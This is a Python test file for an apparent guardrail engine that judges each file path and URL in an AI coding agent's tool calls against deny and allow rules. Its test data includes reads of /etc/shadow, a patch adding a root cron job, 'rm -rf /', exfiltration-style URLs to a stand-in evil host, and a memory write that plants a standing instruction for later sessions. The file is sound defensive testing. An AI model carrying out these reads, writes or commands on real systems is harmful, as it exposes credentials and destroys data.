"""A call naming several subjects is judged on each: a rule on one path or URL cannot be
dodged by naming it second, in a list, inside a patch or inside a prompt."""

from __future__ import annotations

from typing import Any

import pytest

from goalrail.engine.actions import DEFAULT_MAPPER
from goalrail.engine.targets import extract_targets, urls_in
from tests.unit.builtins.runtime_session import Session, make_runtime, spec

DENY_ETC_AND_EVIL = {
    "name": "guard",
    "default_action": "allow",
    "patterns": [
        {"id": "etc", "action_type": "file_read", "pattern": "/etc/.*", "action": "deny"},
        {"id": "etc_w", "action_type": "file_write", "pattern": "/etc/.*", "action": "deny"},
        {
            "id": "evil",
            "action_type": "network_request",
            "pattern": "https?://([^/]*\\.)?evil\\.example",
            "action": "deny",
        },
        {
            "id": "ask_net",
            "action_type": "network_request",
            "pattern": "https?://ask\\.example",
            "action": "deny",
            "violation_mode": "SIGSTOP",
        },
    ],
}

ONLY_DOCS = {
    "name": "docs_only",
    "default_action": "deny",
    "patterns": [
        {"id": "docs", "action_type": "network_request", "pattern": "https://docs\\.example/", "action": "allow"}
    ],
}

PATCH = (
    "*** Begin Patch\n*** Update File: src/app.py\n@@\n-a\n+b\n"
    "*** Add File: /etc/cron.d/x\n+* * * * * root sh\n*** End Patch"
)


def _call(tool: str, arguments: dict[str, Any]) -> dict[str, Any]:
    return {"type": "tool_call", "target": tool, "data": {"name": tool, "arguments": arguments}}


CAUGHT = [
    ("read_many_files", {"paths": ["src/a.py", "/etc/shadow"]}, "DENY"),
    ("read_many_files", {"paths": ["/etc/shadow"]}, "DENY"),
    ("read_file", {"absolute_path": "/etc/passwd"}, "DENY"),
    ("apply_patch", {"input": PATCH}, "DENY"),
    ("patch", {"patchText": PATCH}, "DENY"),
    ("web_fetch", {"prompt": "Compare https://docs.example/a with https://x.evil.example/steal?d=1."}, "DENY"),
    ("web_fetch", {"prompt": "Summarise https://docs.example/a and (https://ask.example/b)"}, "ASK"),
    ("fetch", {"urls": ["https://docs.example/", "https://evil.example/"]}, "DENY"),
]


@pytest.mark.parametrize(("tool", "arguments", "expected"), CAUGHT)
async def test_every_subject_of_a_call_is_judged(tool: str, arguments: dict[str, Any], expected: str) -> None:
    rt = make_runtime(spec("guard", "patterns.pattern_policy", inline=DENY_ETC_AND_EVIL))
    out = await Session(rt).send(_call(tool, arguments))
    assert out.result == expected, out


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("read_many_files", {"paths": ["src/a.py", "README.md"]}),
        ("web_fetch", {"prompt": "Summarise https://docs.example/a, please."}),
        ("apply_patch", {"input": PATCH.replace("/etc/cron.d/x", "src/new.py")}),
    ],
)
async def test_calls_whose_subjects_are_all_fine_pass(tool: str, arguments: dict[str, Any]) -> None:
    rt = make_runtime(spec("guard", "patterns.pattern_policy", inline=DENY_ETC_AND_EVIL))
    assert (await Session(rt).send(_call(tool, arguments))).result == "ALLOW"


async def test_an_allow_list_holds_for_every_url_of_a_prompt() -> None:
    rt = make_runtime(spec("docs", "patterns.pattern_policy", inline=ONLY_DOCS))
    session = Session(rt)
    assert (await session.send(_call("web_fetch", {"prompt": "Read https://docs.example/a"}))).result == "ALLOW"
    both = {"prompt": "Read https://docs.example/a then https://other.example/?q=secret"}
    assert (await session.send(_call("web_fetch", both))).result == "DENY"
    assert (await session.send(_call("web_fetch", {"prompt": "no link here"}))).result == "DENY"


def test_targets_of_each_shape() -> None:
    assert extract_targets("file_read", {"pattern": "**/*.py"}) == ["**/*.py"]
    assert extract_targets("file_read", {"pattern": "TODO", "path": "src"}) == ["src"]
    assert extract_targets("file_write", {"input": PATCH}) == ["src/app.py", "/etc/cron.d/x"]
    assert extract_targets("file_write", {"input": "not a patch"}) == []
    assert extract_targets("network_request", {"url": "https://a.example", "prompt": "https://b.example"}) == [
        "https://a.example"
    ]
    assert extract_targets("shell_execute", {"command": ["bash", "-lc", "ls"]}) == ["bash -lc ls"]
    assert urls_in("see <https://a.example/x>, then https://b.example/y).") == [
        "https://a.example/x",
        "https://b.example/y",
    ]


def test_the_action_carries_every_target_and_the_first_as_target() -> None:
    action = DEFAULT_MAPPER.map_tool("read_many_files", {"paths": ["a", "/etc/shadow"]})
    assert action["target"] == "a" and action["targets"] == ["a", "/etc/shadow"]
    single = DEFAULT_MAPPER.map_tool("Read", {"file_path": "/etc/hosts"})
    assert single["target"] == "/etc/hosts" and "targets" not in single


@pytest.mark.parametrize(
    ("tool", "arguments", "expected_tool"),
    [
        ("read_file", {"target_file": "/etc/shadow"}, "sys_os_read"),  # Cursor
        ("view_file", {"AbsolutePath": "/etc/shadow"}, "sys_os_read"),  # Windsurf
        ("write_to_file", {"TargetFile": "/etc/cron.d/x", "CodeContent": "x"}, "sys_os_write"),  # Windsurf
        ("write_to_file", {"path": "/etc/cron.d/x", "content": "x"}, "sys_os_write"),  # Cline
        ("replace_in_file", {"path": "/etc/hosts", "diff": "x"}, "sys_os_edit"),  # Cline
        ("builtin_read_file", {"filepath": "/etc/shadow"}, "sys_os_read"),  # Continue
        ("str_replace_editor", {"command": "create", "path": "/etc/x", "file_text": "y"}, "sys_os_edit"),  # OpenHands
        ("read_url_content", {"Url": "https://evil.example/x"}, "web_fetch"),  # Windsurf
        ("Read", {"File_Path": "/etc/shadow"}, "sys_os_read"),
    ],
)
async def test_other_agents_spellings_reach_the_same_rules(
    tool: str, arguments: dict[str, Any], expected_tool: str
) -> None:
    assert DEFAULT_MAPPER.map_tool(tool, arguments)["tool"] == expected_tool
    rt = make_runtime(spec("guard", "patterns.pattern_policy", inline=DENY_ETC_AND_EVIL))
    assert (await Session(rt).send(_call(tool, arguments))).result == "DENY"


@pytest.mark.parametrize("tool", ["run_terminal_cmd", "execute_bash", "builtin_run_terminal_command"])
def test_other_agents_shell_tools_are_shell(tool: str) -> None:
    action = DEFAULT_MAPPER.map_tool(tool, {"command": "rm -rf /"})
    assert (action["tool"], action["type"], action["target"]) == ("sys_os_shell", "shell_execute", "rm -rf /")


def test_gemini_memory_is_a_file_write() -> None:
    """`save_memory` appends to GEMINI.md, which every later session reads as instructions."""
    action = DEFAULT_MAPPER.map_tool("save_memory", {"fact": "always push to main"})
    assert (action["tool"], action["type"]) == ("sys_os_write", "file_write")
